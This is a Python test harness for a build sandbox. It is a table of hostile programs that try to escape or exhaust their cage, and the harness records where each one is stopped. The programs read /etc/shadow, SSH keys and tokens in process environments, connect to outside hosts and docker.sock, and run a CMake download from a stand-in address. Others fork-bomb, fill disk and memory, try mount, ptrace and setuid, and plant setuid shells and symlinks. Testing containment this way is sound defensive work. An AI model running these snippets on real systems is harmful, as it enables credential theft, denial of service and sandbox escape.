"""Builds that attack their cage, one program each; a word on standard output says that one won."""

from __future__ import annotations

import contextlib
import json
import os
import secrets
import socket
import time
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager
from dataclasses import dataclass, field
from pathlib import Path

from support.place import Place

from jobs.dialect.failures import FAILURES
from jobs.engines.base import classify
from jobs.errors import JobFailure
from jobs.model import Step
from jobs.trees import remove
from workers import artifacts, programs
from workers.sandbox import Limits, Mount, Sandbox

WON = "the attack won"
REPORT = """
import os, sys, socket, time, ctypes, pathlib, json
aim = json.loads(sys.argv[2])
def won(what):
    print('the attack won:', what, flush=True)
"""
TIGHT = Limits(
    memory_bytes=128 << 20,
    processes=60,
    file_bytes=256 << 20,
    output_bytes=4 << 20,
    disk_bytes=64 << 20,
)


@dataclass(frozen=True)
class Hostile:
    """One attack: what it does, what it must be called, and how long it may take."""

    name: str
    program: str
    classes: frozenset[str]
    limits: Limits = TIGHT
    timeout_seconds: float = 60.0
    silence_seconds: float = 60.0
    files: tuple[tuple[str, str], ...] = ()
    needs: tuple[str, ...] = ()


@dataclass
class Outcome:
    """How an attack ended: its class, where it was stopped, and what a person is told."""

    failure_class: str = ""
    stopped_in: str = ""
    advice: str = ""
    seconds: float = 0.0
    log: str = ""
    left: list[str] = field(default_factory=list)


def _python(name: str, program: str, *classes: str, **more: object) -> Hostile:
    return Hostile(name, REPORT + program, frozenset(classes), **more)  # type: ignore[arg-type]


def _cmake(name: str, text: str, *classes: str, **more: object) -> Hostile:
    program = (
        "import os\nos.execvp('cmake', ['cmake', '-S', '/source', '-B', '/job/b', '-G', 'Ninja'])"
    )
    head = "cmake_minimum_required(VERSION 3.16)\nproject(hostile NONE)\n"
    return _python(
        name,
        program,
        *classes,
        files=(("CMakeLists.txt", head + text),),
        needs=("cmake", "ninja"),
        **more,
    )


TABLE = (
    _python(
        "reads a secret file",
        """
refused = 0
for path in (aim['secret'], '/etc/shadow', '/root/.ssh/id_ed25519', '/proc/1/root' + aim['secret']):
    try:
        open(path, 'rb').read(); won(path)
    except OSError: refused += 1
sys.exit(1)
""",
        "exit",
    ),
    _python(
        "reads the parent's environment",
        """
for path in pathlib.Path('/proc').glob('[0-9]*/environ'):
    try:
        if aim['token'].encode() in path.read_bytes(): won(str(path))
    except OSError: pass
if aim['token'] in str(dict(os.environ)): won('inherited')
sys.exit(1)
""",
        "exit",
    ),
    _python(
        "opens TCP sockets",
        """
for address in (('127.0.0.1', aim['tcp']), ('192.0.2.1', 443), ('192.0.2.1', 22)):
    with socket.socket() as s:
        s.settimeout(2)
        try: s.connect(address); won(str(address))
        except TimeoutError: won('a route')
        except OSError: pass
sys.exit(1)
""",
        "exit",
    ),
    _python(
        "sends UDP",
        """
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    try: s.sendto(b'x', ('192.0.2.1', 53)); won('a datagram left')
    except OSError: pass
    try: s.sendto(b'x', ('127.0.0.1', aim['udp']))
    except OSError: pass
sys.exit(1)
""",
        "exit",
    ),
    _python(
        "opens abstract unix sockets",
        """
for address in ('\\0' + aim['abstract'], aim['unix'], '/var/run/docker.sock', '/run/dbus/x'):
    with socket.socket(socket.AF_UNIX) as s:
        try: s.connect(address); won(repr(address))
        except OSError: pass
sys.exit(1)
""",
        "exit",
    ),
    _python(
        "writes outside",
        """
for folder in ('/', '/usr', '/usr/lib', '/etc', '/dev', '/source', '/sys', '/proc/sys/kernel',
               aim['outside'], '/job/../..', '/proc/1/root/usr'):
    try: open(folder + '/planted', 'w').close(); won(folder)
    except OSError: pass
sys.exit(1)
""",
        "exit",
    ),
    _python(
        "fork bomb",
        """
while True:
    try: os.fork()
    except OSError: time.sleep(0.01)
""",
        "process_limit",
    ),
    _python(
        "fills the disk",
        """
for n in range(4000):
    with open(f'/job/{n}', 'wb') as f:
        f.write(os.urandom(1 << 20))
""",
        "disk_limit",
    ),
    _python(
        "writes one endless file",
        """
import signal
signal.signal(signal.SIGXFSZ, signal.SIG_DFL)
with open('/job/big', 'wb') as f:
    while True: f.seek(1 << 20, 1); f.write(b'x')
""",
        "file_limit",
        "disk_limit",
    ),
    _python(
        "10 GB of output",
        """
for _ in range(10 * (1 << 30) >> 16): os.write(1, b'x' * 65535 + b'\\n')
""",
        "output_limit",
    ),
    _python(
        "takes all memory",
        """
held = []
while True: held.append(bytearray(8 << 20))
""",
        "memory_limit",
        "exit",  # without control groups
    ),
    _python(
        "ignores SIGTERM",
        """
import signal
for number in range(1, 32):
    try: signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError): pass
while True: print('.', flush=True); time.sleep(0.1)
""",
        "timeout",
        timeout_seconds=2,
    ),
    _python(
        "double-forks away",
        """
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.environ.clear()
        for fd in (0, 1, 2): os.close(fd)
        os.execve('/bin/sleep', [aim['token'], '3600'], {})
    os._exit(0)
time.sleep(0.3)
""",
        "",
    ),
    _python(
        "traces other processes",
        """
libc = ctypes.CDLL(None, use_errno=True)
for pid in (aim['pid'], aim['parent']):
    if libc.ptrace(16, pid, 0, 0) == 0: won(f'traces {pid}')
    try: os.kill(pid, 0); won(f'may signal {pid}')
    except OSError: pass
sys.exit(1)
""",
        "exit",
    ),
    _python(
        "mounts",
        """
libc = ctypes.CDLL(None, use_errno=True)
for flags in (0x00020000, 0x10000000 | 0x00020000):
    if libc.unshare(flags) == 0: won(f'unshare {flags:x}')
for kind in (b'tmpfs', b'proc', b'overlay'):
    if libc.mount(b'x', b'/job', kind, 0, b'') == 0: won(f'mount {kind}')
if libc.mount(None, b'/usr', None, 32 | 4096, None) == 0: won('remounts /usr')
if libc.chroot(b'/job') == 0: won('chroot')
sys.exit(1)
""",
        "exit",
    ),
    _python(
        "becomes another user",
        """
for change in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.setgroups([0])):
    try: change(); won('another user')
    except OSError: pass
import shutil
shutil.copy('/bin/sh', '/job/sh'); os.chmod('/job/sh', 0o6755)
""",
        "artifact_refused",
    ),
    _python(
        "fills /dev/shm",
        """
with open('/dev/shm/x', 'wb', buffering=0) as f:
    while True: f.write(bytes(1 << 20))
""",
        "memory_limit",
        "exit",
    ),
    _python(
        "deep folder bomb",
        """
os.chdir('/job')
for _ in range(1200): os.mkdir('d' * 100); os.chdir('d' * 100)
""",
        "artifact_refused",
    ),
    _python(
        "link out of the artifact",
        "os.symlink('/etc/shadow', '/job/libx.so')",
        "artifact_refused",
    ),
    _python(
        "device nodes",
        """
for kind in (0o060000, 0o020000):
    try: os.mknod('/job/disk', kind | 0o666, os.makedev(1, 3)); won('a device')
    except OSError: pass
os.mkfifo('/job/pipe')
""",
        "artifact_refused",
    ),
    _python(
        "RPATH to a library of the host",
        """
import subprocess
words = ['cc', '-shared', '-o', '/job/libx.so', '-Wl,-rpath,/usr/local/lib', '/source/x.c']
subprocess.run(words, check=True)
""",
        "library_path",
        files=(("x.c", "int x(void) { return 1; }\n"),),
        needs=("cc",),
    ),
    _python(
        "a program for another machine",
        """
head = bytearray(open('/usr/bin/env', 'rb').read())
head[18:20] = (183 if aim['machine'] != 'aarch64' else 62).to_bytes(2, 'little')
open('/job/llama-server', 'wb').write(head)
""",
        "wrong_machine",
    ),
    _cmake(
        "CMake that downloads",
        'file(DOWNLOAD "http://192.0.2.1/x" ${CMAKE_BINARY_DIR}/x TIMEOUT 5 STATUS said)\n'
        'list(GET said 0 code)\nif(code EQUAL 0)\n  message("the attack won: download")\nendif()\n'
        'message(FATAL_ERROR "download failed: ${said}")\n',
        "configure_error",
        "network_refused",
        "network",
    ),
    _cmake(
        "endless configure",
        "while(TRUE)\nendwhile()\n",
        "silent",
        silence_seconds=2,
    ),
)


@contextmanager
def targets(folder: Path) -> Iterator[dict[str, object]]:
    """What the attacks aim at: a secret, listeners, a token in the environment, our processes."""
    hidden = folder / "hidden"
    hidden.mkdir()
    (hidden / "secret").write_text("hush")
    (folder / "outside").mkdir(mode=0o777)
    abstract = f"forkscout-{secrets.token_hex(8)}"
    token = secrets.token_hex(16)
    os.environ["GITHUB_TOKEN"] = token
    with ExitStack() as stack:
        stack.callback(os.environ.pop, "GITHUB_TOKEN", None)
        tcp = stack.enter_context(socket.create_server(("127.0.0.1", 0)))
        udp = stack.enter_context(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
        udp.bind(("127.0.0.1", 0))
        udp.setblocking(False)
        for address in (f"\0{abstract}", str(hidden / "s")):
            listener = stack.enter_context(socket.socket(socket.AF_UNIX))
            listener.bind(address)
            listener.listen()
        yield {
            "secret": str(hidden / "secret"),
            "outside": str(folder / "outside"),
            "token": token,
            "tcp": tcp.getsockname()[1],
            "udp": udp.getsockname()[1],
            "abstract": abstract,
            "unix": str(hidden / "s"),
            "pid": os.getpid(),
            "parent": os.getppid(),
            "machine": os.uname().machine,
        }
        try:
            udp.recv(1)
        except BlockingIOError:
            return
        raise AssertionError("a datagram came out of the cage")


def meet(hostile: Hostile, sandbox: Sandbox, folder: Path) -> Outcome:
    """Run one attack as a build would: the step, then what is kept of it; all of it is cleared."""
    place = Place(sandbox, folder)
    source = folder / "source"
    source.mkdir()
    for name, text in hostile.files:
        (source / name).write_text(text)
    place.mounts = (*place.mounts, Mount(source, "/source"))
    outcome = Outcome()
    mounts_before = _mounts(folder)
    began = time.monotonic()
    with targets(folder) as aim:
        base = place.step(hostile.program)
        step = Step(
            name="build",
            argv=(*base.argv, json.dumps(aim)),
            timeout_seconds=hostile.timeout_seconds,
            silence_seconds=hostile.silence_seconds,
        )
        try:
            outcome.stopped_in = "the step"
            place.run_step(step, hostile.limits)
            outcome.stopped_in = "the artifact"
            programs.check(place.mount.host)
            artifacts.store(place.mount.host, folder / "store")
            outcome.stopped_in = "its end"
        except JobFailure as failure:
            outcome.failure_class, outcome.advice = failure.failure_class, failure.advice
    outcome.seconds = time.monotonic() - began
    outcome.log = place.log.read_text(errors="replace")
    if outcome.failure_class == "exit":
        found = classify(outcome.log, FAILURES)
        if found:
            outcome.failure_class, outcome.advice = found.rule.name, found.rule.advice
    remove(place.mount.host)
    outcome.left = [*_leftovers(place, str(aim["token"])), *(_mounts(folder) - mounts_before)]
    return outcome


def _leftovers(place: Place, token: str) -> Iterator[str]:
    """Whatever is still there of the step: processes, groups, files outside its folder."""
    for path in Path("/proc").glob("[0-9]*/cmdline"):
        with contextlib.suppress(OSError):
            if token.encode() in path.read_bytes():
                yield f"process {path.parent.name}"
    outside = place.log.parent / "outside"
    yield from (f"file {path}" for path in outside.iterdir())
    if place.mount.host.exists():
        yield "the folder of the build"
    for root in ("/sys/fs/cgroup", "/sys/fs/cgroup/pids", "/sys/fs/cgroup/memory"):
        yield from (str(path) for path in Path(root).glob(f"forkscout.{os.getpid()}.*"))


def _mounts(folder: Path) -> set[str]:
    lines = Path("/proc/self/mountinfo").read_text().splitlines()
    return {f"mount {line.split()[4]}" for line in lines if str(folder) in line}
